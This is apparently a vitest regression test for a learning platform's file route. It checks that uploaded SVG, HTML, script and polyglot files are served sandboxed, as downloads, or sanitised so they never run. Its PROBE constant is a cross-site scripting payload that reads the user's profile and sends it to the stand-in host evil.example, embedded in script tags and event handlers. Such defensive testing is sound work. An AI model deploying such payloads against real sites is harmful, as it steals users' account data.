import { beforeAll, describe, expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import type { Db } from '../../db/client.ts';
import { importDemo } from '../../../test/demo.ts';
import { importWithFiles } from '../../../test/import-with-files.ts';
import { setupTestApp } from '../../../test/setup-test-app.ts';
import { ImportValidationError } from '../import/index.ts';

const PROBE = `fetch('/api/platform/v1/users/me').then((r) => r.text()).then((me) => fetch('https://evil.example/?' + me))`;
const HTML = `<!doctype html><html><body><script>${PROBE}</script><img src="x" onerror="${PROBE}"></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${PROBE}"><script>${PROBE}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${PROBE}</script></body></foreignObject><rect width="1" height="1"/></svg>`;
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

/**
 * Files of every kind a browser might run, under names that tell the truth and names that
 * lie (issue 9 item 1): the class, not the one SVG of the report.
 */
const HOSTILE_FILES: Record<string, string | Uint8Array> = {
  'hostile-cover.svg': SVG,
  'hostile-script.svg': SVG,
  'HOSTILE-CAPITALS.SVG': SVG,
  'hostile-page.html': HTML,
  'hostile-page.htm': HTML,
  'hostile-page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${PROBE}</script></body></html>`,
  'hostile-data.xml': `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${PROBE}</x:script>`,
  'hostile-code.js': PROBE,
  'hostile-style.css': `body{background:url(javascript:${PROBE})}`,
  'hostile-page.svg.html': HTML,
  'hostile-no-extension': HTML,
  'hostile-html-in.txt': HTML,
  'hostile-html-in.csv': HTML,
  'hostile-html-named.png': HTML,
  'hostile-polyglot.gif': `GIF89a/*${HTML}*/`,
  'hostile-html-in.pdf': `%PDF-1.4\n${HTML}`,
  'hostile-real.png': new Uint8Array([...PNG_SIGNATURE, 0, 0, 0, 0]),
  'hostile-clip.webm': new Uint8Array([0x1a, 0x45, 0xdf, 0xa3, 0, 0, 0, 0]),
};
const attachmentNames = Object.keys(HOSTILE_FILES).filter((n) => n !== 'hostile-cover.svg');

async function importDemoWithHostileFiles(db: Db) {
  await importDemo(db);
  await importWithFiles(db, HOSTILE_FILES, {
    courses: [
      {
        externalId: 'hostile',
        name: 'Hostile files course',
        code: 'HOSTILE-FILES',
        imageFile: 'hostile-cover.svg',
        about: '<p><a href="{{file:hostile-page.html}}">page</a> <img src="{{file:hostile-html-named.png}}" alt=""></p>',
        activities: [
          { externalId: 'hostile.root', type: 'composite', name: 'Root', parts: [{ activity: 'hostile.lesson' }] },
          {
            externalId: 'hostile.lesson',
            type: 'text',
            name: 'Lesson',
            html: '<p>files</p>',
            attachments: attachmentNames.map((n) => ({ file: n, name: n })),
          },
        ],
      },
    ],
    enrolments: [{ externalId: 'hostile.learner', user: 'user-learner', course: 'hostile', isMandatory: true }],
    workflows: [{ externalId: 'hostile.run', user: 'user-learner', course: 'hostile', state: 'inProgress', started: '-1d' }],
  });
}

const demo = setupTestApp({ load: importDemoWithHostileFiles, sessions: ['learner', 'learner2'] });

interface StoredFile {
  id: string;
  name: string;
  content_type: string;
  is_public: boolean;
}
let files: StoredFile[];

beforeAll(async () => {
  files = await demo.db.query<StoredFile>(`SELECT id, name, content_type, is_public FROM files WHERE name ILIKE 'hostile-%' ORDER BY name`);
});

const urlOf = (file: StoredFile) => `/api/lms-storage/v1/files/${file.id}`;
const essence = (res: LightMyRequestResponse) =>
  String(res.headers['content-type'] ?? '')
    .split(';')[0]!
    .trim()
    .toLowerCase();

/** Raster images, which a browser's image viewer draws in a page that runs nothing (the one list is file-headers.ts). */
const VIEWER_TYPE = /^image\/(png|jpeg|gif|webp|avif)$/;

/** The rule every answer of a file route keeps, whatever the file, the request and the status. */
function expectCannotRun(res: LightMyRequestResponse, what: string) {
  const policy = String(res.headers['content-security-policy'] ?? '');
  const directives = policy.split(';').map((d) => d.trim());
  expect(directives, `${what}: sandbox`).toContain('sandbox');
  expect(directives, `${what}: default-src`).toContain("default-src 'none'");
  expect(policy, `${what}: no script or frame allowance`).not.toMatch(/allow-|script-src|frame-src|connect-src|'unsafe-eval'/);
  expect(res.headers['x-content-type-options'], what).toBe('nosniff');
  if (res.statusCode === 200 || res.statusCode === 206 || res.statusCode === 416) {
    const disposition = String(res.headers['content-disposition'] ?? '');
    expect(disposition, `${what}: ${essence(res)}`).toMatch(VIEWER_TYPE.test(essence(res)) ? /^inline;/ : /^attachment;/);
  }
}

describe('stored files never run in the portal (issue 9 item 1)', () => {
  it('imported every hostile file, public (cover, about) and private (attachments)', () => {
    expect([...new Set(files.map((f) => f.name))].sort()).toEqual(Object.keys(HOSTILE_FILES).sort());
    expect(new Set(files.map((f) => f.is_public))).toEqual(new Set([true, false]));
  });

  it('locks every answer of the file route: whole, HEAD, range, unsatisfiable range, anonymous, other learner, at a width of srcset', async () => {
    for (const file of files.flatMap((f) => [f, { ...f, width: true }])) {
      const requests = [
        { method: 'GET' as const, headers: demo.learner },
        { method: 'HEAD' as const, headers: demo.learner },
        { method: 'GET' as const, headers: { ...demo.learner, range: 'bytes=0-3' } },
        { method: 'GET' as const, headers: { ...demo.learner, range: 'bytes=99999-' } },
        { method: 'GET' as const, headers: {} },
        { method: 'GET' as const, headers: demo.learner2 },
      ];
      for (const { method, headers } of requests) {
        const url = 'width' in file ? `${urlOf(file)}?width=320` : urlOf(file);
        const res = await demo.app.inject({ method, url, headers });
        expectCannotRun(res, `${method} ${url} ${file.name} ${JSON.stringify(Object.keys(headers))} → ${res.statusCode}`);
      }
    }
  });

  it('answers the learner with the bytes, as a download unless a raster image', async () => {
    const answers = Object.fromEntries(
      await Promise.all(
        files.map(async (f) => [
          f.name,
          (await demo.app.inject({ url: urlOf(f), headers: demo.learner })).headers['content-disposition']?.toString().split(';')[0],
        ]),
      ),
    );
    expect(answers).toEqual({
      'hostile-cover.svg': 'attachment',
      'hostile-script.svg': 'attachment',
      'HOSTILE-CAPITALS.SVG': 'attachment',
      'hostile-page.html': 'attachment',
      'hostile-page.htm': 'attachment',
      'hostile-page.xhtml': 'attachment',
      'hostile-data.xml': 'attachment',
      'hostile-code.js': 'attachment',
      'hostile-style.css': 'attachment',
      'hostile-page.svg.html': 'attachment',
      'hostile-no-extension': 'attachment',
      'hostile-html-in.txt': 'attachment',
      'hostile-html-in.csv': 'attachment',
      // The players fetch PDFs and play media through <video>: a download when opened on their own.
      'hostile-html-in.pdf': 'attachment',
      'hostile-clip.webm': 'attachment',
      // Named as images: drawn by the browser's image viewer, which never runs HTML (nosniff, sandbox).
      'hostile-html-named.png': 'inline',
      'hostile-polyglot.gif': 'inline',
      'hostile-real.png': 'inline',
    });
  });

  it('never names a type a browser would run as a page', () => {
    for (const { name, content_type: type } of files) {
      expect(type, name).not.toMatch(/html|javascript|ecmascript/);
      if (type !== 'image/svg+xml') expect(type, name).not.toMatch(/xml/);
    }
  });

  it('stores SVG images without their scripts, handlers or foreign objects', async () => {
    for (const file of files.filter((f) => f.content_type === 'image/svg+xml')) {
      const body = (await demo.app.inject({ url: urlOf(file), headers: demo.learner })).body;
      expect(body, file.name).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
      expect(body, file.name).not.toMatch(/script|onload|foreignObject|fetch/i);
    }
  });

  it('locks the refusals that know no file: a bad id and an unknown id', async () => {
    for (const url of ['/api/lms-storage/v1/files/not-an-id', '/api/lms-storage/v1/files/00000000-0000-4000-8000-000000000000']) {
      const res = await demo.app.inject({ url, headers: demo.learner });
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
      expectCannotRun(res, url);
    }
  });
});

describe('importing a file named .svg that is no SVG image', () => {
  it('is refused with the path and the reason', async () => {
    const attempt = importWithFiles(
      demo.db,
      { 'not-an-image.svg': HTML },
      {
        courses: [
          {
            externalId: 'not-svg',
            name: 'Not SVG',
            code: 'NOT-SVG',
            imageFile: 'not-an-image.svg',
            activities: [{ externalId: 'not-svg.text', type: 'text', name: 'Text', html: '<p>x</p>' }],
          },
        ],
      },
    );
    await expect(attempt).rejects.toBeInstanceOf(ImportValidationError);
    await expect(attempt).rejects.toMatchObject({
      issues: [{ path: 'courses[0].imageFile', message: 'Not an SVG image (no <svg> element at its root): not-an-image.svg' }],
    });
  });
});
